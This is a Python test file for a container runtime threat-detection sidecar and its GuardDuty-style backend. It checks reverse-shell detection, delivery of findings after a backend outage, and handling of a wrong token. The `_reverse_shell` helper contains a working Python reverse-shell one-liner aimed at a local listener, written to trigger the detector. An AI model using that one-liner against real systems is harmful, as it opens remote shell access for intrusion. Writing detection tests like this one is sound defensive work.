"""Delivery end to end: the real sidecar in the emulated task, the real backend, the real clients.

A staged reverse shell must be queryable with boto3 within seconds, with the task's identity; findings made while
the backend is down arrive once it is back, each once; a wrong token is reported and nothing is lost.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from backend_env import BackendThread
from sqlalchemy import select
from taskenv import TaskEnv

from backend import tenancy
from backend.models import RuntimeEventRow

PY = "/usr/bin/python3"
ACCOUNT, REGION = "123456789012", "us-east-1"  # the emulated task's metadata
DETECTOR = tenancy.detector_id_for(ACCOUNT, REGION)


@contextlib.contextmanager
def listener() -> Iterator[tuple[socket.socket, int]]:
    srv = socket.socket()
    srv.bind(("127.0.0.9", 0))
    srv.listen(4)
    srv.settimeout(30)
    try:
        yield srv, srv.getsockname()[1]
    finally:
        srv.close()


def _reverse_shell(task_env: TaskEnv) -> float:
    """A real reverse shell from the app container; returns when it connected (time.time())."""
    with listener() as (srv, port):
        code = (
            f"import os, socket; s = socket.create_connection(('127.0.0.9', {port})); "
            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
        )
        task_env.spawn("app", [PY, "-c", code])
        conn, _ = srv.accept()
        started = time.time()
        with conn:
            conn.sendall(b"sleep 2; exit\n")
            time.sleep(2.5)
    return started


def _wait_ids(gd: Any, criteria: dict[str, Any], n: int = 1, timeout: float = 20) -> list[str]:
    deadline = time.monotonic() + timeout
    while True:
        ids: list[str] = gd.list_findings(DetectorId=DETECTOR, FindingCriteria={"Criterion": criteria})["FindingIds"]
        if len(ids) >= n or time.monotonic() > deadline:
            return ids
        time.sleep(0.2)


def test_a_reverse_shell_is_queryable_with_boto3_within_seconds(task_env: TaskEnv, tmp_path: Path) -> None:
    backend = BackendThread(f"sqlite:///{tmp_path / 'b.db'}").start()
    try:
        token = backend.token(account=ACCOUNT, cluster="prod", region=REGION)
        gd = backend.guardduty(account=ACCOUNT, region=REGION)
        args = ["--collector-url", backend.url, "--state-dir", str(tmp_path / "state"), "--heartbeat-interval-s", "2"]
        task_env.start_detecting(tmp_path, args, {"RUNTIME_SIDECAR_TOKEN": token})
        connected = _reverse_shell(task_env)
        ids = _wait_ids(gd, {"type": {"Eq": ["Execution:Runtime/ReverseShell"]}})
        seen = time.time()
        assert len(ids) == 1, ids
        (f,) = gd.get_findings(DetectorId=DETECTOR, FindingIds=ids)["Findings"]
        task = f["Resource"]["EcsClusterDetails"]["TaskDetails"]
        assert f["Resource"]["EcsClusterDetails"]["Name"] == "prod"
        assert task["Arn"] == f"arn:aws:ecs:{REGION}:{ACCOUNT}:task/prod/{task_env.task_id}"
        assert task["Containers"][0]["Name"] == "app"
        assert f["Service"]["RuntimeDetails"]["Process"]["ExecutablePath"].endswith("dash")
        # with default batching (2 s) the finding is in the API well within the 5 s
        assert seen - connected < 15, seen - connected
        # the agent's heartbeats make the cluster covered
        deadline = time.monotonic() + 10
        while not (res := gd.list_coverage(DetectorId=DETECTOR)["Resources"]) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert res and res[0]["CoverageStatus"] == "HEALTHY", res
        # and the task's runtime events, for the finding's timeline in the console
        deadline = time.monotonic() + 10
        while not (execs := backend.call(lambda: _events(backend, task["Arn"]))) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert any(path.endswith("dash") for path in execs), execs
    finally:
        backend.stop()


async def _events(backend: BackendThread, task_arn: str) -> list[str]:
    assert backend.server.db is not None
    async with backend.server.db.sessions() as s:
        rows = await s.execute(
            select(RuntimeEventRow.executable_path).where(
                RuntimeEventRow.task_arn == task_arn, RuntimeEventRow.kind == "process.exec"
            )
        )
        return [r for r in rows.scalars() if r]


def test_findings_made_while_the_backend_is_down_arrive_once(task_env: TaskEnv, tmp_path: Path) -> None:
    with socket.socket() as s:  # a port for the backend to come back on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    db = f"sqlite:///{tmp_path / 'b.db'}"
    first = BackendThread(db, port=port).start()
    token = first.token(account=ACCOUNT, cluster="prod", region=REGION)
    key = first.access_key(account=ACCOUNT, region=REGION)
    first.stop()  # the backend is down from here
    args = ["--collector-url", f"http://127.0.0.1:{port}", "--state-dir", str(tmp_path / "state"),
            "--batch-max-age-s", "0.3"]  # fmt: skip
    sidecar = task_env.start_detecting(tmp_path, args, {"RUNTIME_SIDECAR_TOKEN": token})
    for tool in ("nmap", "masscan"):
        assert task_env.run("app", ["sh", "-c", f"cp /bin/sleep /tmp/{tool} && /tmp/{tool} 0.3"])[0] == 0
    sidecar.wait_for_finding(lambda f: "masscan" in str(f), timeout=20)
    time.sleep(1.5)  # retries against the closed port meanwhile
    local = {f["id"] for f in sidecar.findings()}
    assert len(local) >= 2
    back = BackendThread(db, port=port).start()
    try:
        gd = back.guardduty(key=key, region=REGION)
        deadline = time.monotonic() + 60
        while True:
            stored = [
                i for p in gd.get_paginator("list_findings").paginate(DetectorId=DETECTOR) for i in p["FindingIds"]
            ]
            if set(stored) >= local or time.monotonic() > deadline:
                break
            time.sleep(0.5)
        assert set(stored) >= local and len(stored) == len(set(stored))
        assert sidecar.poll() is None  # it waited, it did not give up or crash
    finally:
        back.stop()


def test_a_wrong_token_is_reported_and_findings_stay_spooled(task_env: TaskEnv, tmp_path: Path) -> None:
    backend = BackendThread(f"sqlite:///{tmp_path / 'b.db'}").start()
    try:
        state = tmp_path / "state"
        args = ["--collector-url", backend.url, "--state-dir", str(state), "--batch-max-age-s", "0.3"]
        sidecar = task_env.start_detecting(tmp_path, args, {"RUNTIME_SIDECAR_TOKEN": "rtm_" + "0" * 43})
        assert task_env.run("app", ["sh", "-c", "cp /bin/sleep /tmp/nmap && /tmp/nmap 0.3"])[0] == 0
        sidecar.wait_for_finding(lambda f: "nmap" in str(f), timeout=20)  # it keeps detecting
        deadline = time.monotonic() + 15
        while not any("401" in line for line in sidecar.stderr_lines()) and time.monotonic() < deadline:
            time.sleep(0.3)
        refused = [line for line in sidecar.stderr_lines() if "401" in line]
        assert refused, sidecar.stderr_lines()[-20:]
        assert "rtm_000" not in "\n".join(sidecar.stderr_lines())  # the token is never logged
        assert any(p.stat().st_size > 0 for p in state.rglob("*") if p.is_file())  # the findings wait on disk
        gd = backend.guardduty(account=ACCOUNT, region=REGION)
        assert gd.list_findings(DetectorId=DETECTOR)["FindingIds"] == []
    finally:
        backend.stop()
